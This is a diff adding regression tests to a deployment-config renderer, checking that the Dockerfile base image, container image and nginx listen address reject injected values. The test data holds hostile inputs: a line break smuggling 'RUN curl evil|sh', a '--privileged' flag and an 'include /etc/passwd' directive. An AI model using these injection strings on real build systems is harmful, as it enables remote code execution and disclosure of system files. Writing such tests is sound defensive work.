@@ -72,3 +72,36 @@ def test_ordinary_user_names_still_render(tmp_path):
     proc = render(cfg, tmp_path / "out")
     assert proc.returncode == 0, proc.stderr
     assert "User=svc_llm-1\n" in (tmp_path / "out/hosts/gpu-a/chat-7b.service").read_text()
+
+
+def test_base_image_with_a_line_break_cannot_inject_dockerfile_lines(tmp_path):
+    # container.base_image went raw after FROM: "python:3.11\nRUN curl evil|sh" added a RUN line
+    cfg = write_config(tmp_path / "deploy.yaml", container={"base_image": "python:3.11\nRUN curl evil|sh"})
+    assert_refused(render(cfg, tmp_path / "out", "--target", "container"), 3, "container.base_image")
+
+
+def test_image_with_a_space_is_a_config_error(tmp_path):
+    cfg = write_config(tmp_path / "deploy.yaml", container={"image": "registry/x:1 --privileged"})
+    assert_refused(render(cfg, tmp_path / "out", "--target", "k8s"), 3, "container.image")
+
+
+def test_image_references_with_registry_port_and_digest_render(tmp_path):
+    image = "registry.example.com:5000/team/llm@sha256:" + "a" * 64
+    cfg = write_config(tmp_path / "deploy.yaml", container={"image": image, "base_image": "nvidia/cuda:12.4.1-runtime-ubuntu22.04"})
+    proc = render(cfg, tmp_path / "out", "--target", "container")
+    assert proc.returncode == 0, proc.stderr
+    assert yaml.safe_load((tmp_path / "out/hosts/gpu-a/compose.yaml").read_text())["services"]["runtime"]["image"] == image
+    assert "FROM nvidia/cuda:12.4.1-runtime-ubuntu22.04\n" in (tmp_path / "out/hosts/gpu-a/Dockerfile").read_text()
+
+
+def test_router_listen_address_that_is_not_an_address_is_a_config_error(tmp_path):
+    # router.listen_address went raw into `listen ...;`: "0.0.0.0; include /etc/passwd" was an nginx directive
+    cfg = write_config(tmp_path / "deploy.yaml", router={"listen_address": "0.0.0.0; include /etc/passwd"})
+    assert_refused(render(cfg, tmp_path / "out"), 3, "router.listen_address")
+
+
+def test_router_ipv6_listen_address_renders(tmp_path):
+    cfg = write_config(tmp_path / "deploy.yaml", router={"listen_address": "::1"})
+    proc = render(cfg, tmp_path / "out")
+    assert proc.returncode == 0, proc.stderr
+    assert "listen [::1]:8088;" in (tmp_path / "out/router/chat-7b.conf").read_text()
